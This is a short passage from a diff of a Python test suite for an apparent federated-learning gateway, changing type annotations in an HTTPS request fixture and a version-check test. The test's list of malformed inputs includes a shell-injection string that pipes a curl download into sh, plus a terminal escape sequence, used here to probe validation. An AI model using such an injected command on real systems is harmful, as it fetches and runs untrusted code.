@@ -93,7 +93,7 @@ def gateway(folder: Path) -> Iterator[tuple[SuperLink, int]]:
 @pytest.fixture
 def ask(folder: Path, gateway: tuple[SuperLink, int]) -> Callable[..., Any]:
     def ask(
-        method: Any, path: Path, body: bytes = b"", port: int = gateway[1], **headers: Any
+        method: Any, path: Any, body: bytes = b"", port: int = gateway[1], **headers: Any
     ) -> tuple[HTTPResponse, bytes]:
         context = ssl.create_default_context(cafile=folder / "ca.crt")
         connection = http.client.HTTPSConnection("127.0.0.1", port, context=context)
@@ -227,7 +227,7 @@ def test_a_site_does_not_join_with_a_skewed_clock(
 
 def test_no_answer_of_a_door_is_an_error_of_the_check() -> None:
     good = {name: version(name) for name in ("layerweld", "flwr", "torch", "transformers")}
-    good |= {"application": "abc", "time": time.time()}
+    good |= {"application": "abc", "time": time.time()}  # type: ignore[dict-item]
     odd = (
         "1'; curl x | sh; '",
         "\x1b[2J",
